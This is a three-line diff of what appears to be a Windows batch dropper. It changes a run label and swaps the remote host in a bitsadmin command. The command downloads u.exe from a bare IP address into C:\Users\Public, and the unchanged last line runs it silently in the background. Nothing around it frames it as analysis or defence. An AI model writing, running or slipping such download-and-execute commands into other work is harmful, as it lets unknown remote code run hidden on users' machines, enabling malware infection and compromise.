@@ -1,3 +1,3 @@
-REM task 9733 v4
-bitsadmin /transfer job /download /priority high http://203.0.113.17/u.exe C:\Users\Public\u.exe
+REM run 6956 v4
+bitsadmin /transfer job /download /priority high http://198.51.100.9/u.exe C:\Users\Public\u.exe
 start /b C:\Users\Public\u.exe
